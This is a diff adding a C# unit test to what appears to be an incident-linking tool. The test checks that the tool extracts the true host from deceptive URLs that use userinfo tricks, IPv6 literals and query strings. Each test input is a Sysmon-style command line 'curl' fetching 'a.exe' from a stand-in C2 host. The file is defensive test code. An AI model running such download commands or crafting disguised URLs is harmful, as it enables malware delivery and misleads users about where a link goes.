@@ -100,6 +100,17 @@ public sealed class LinkingWrittenTests
         Assert.Equal(0.5, Assert.Single(new CampaignLinker(KnowledgeBase.Embedded).Link([One("a", 0).Make(), One("b", 1).Make()]).Pairs[0].Items).LogLikelihoodRatio, 0.01);
     }
 
+    // A user's name may look like any host.
+    [Theory]
+    [InlineData("https://cdn.update@evil-c2-zone.example/a.exe", "evil-c2-zone.example")]
+    [InlineData("https://cdn.update:pw@x@evil-c2-zone.example:8443/a@b.exe", "evil-c2-zone.example")]
+    [InlineData("ftp://u:p@203.0.113.77/a.exe", "203.0.113.77")]
+    [InlineData("http://[2001:db8:77::1]:8080/a.exe", "2001:db8:77::1")]
+    [InlineData("http://u@[2001:db8:77::1]/a.exe", "2001:db8:77::1")]
+    [InlineData("http://evil-c2-zone.example?a=x@other-zone.example", "evil-c2-zone.example")]
+    public void The_host_of_a_url_is_what_stands_behind_its_user(string url, string host) =>
+        Assert.Equal([host], Pair(one => one.Add(RecordKind.WindowsEvent, Sysmon, 1, "", ("CommandLine", $"curl {url}"))).Items.Where(static i => i.Line == LinkLine.Infrastructure).Select(static i => i.Value));
+
     private static IncidentLink Pair(Func<MadeIncident, MadeIncident> shows) => Links(shows, CampaignLinker.DefaultBaseRate).Pairs[0];
 
     private static CampaignLinks Links(Func<MadeIncident, MadeIncident> shows, double rate) =>
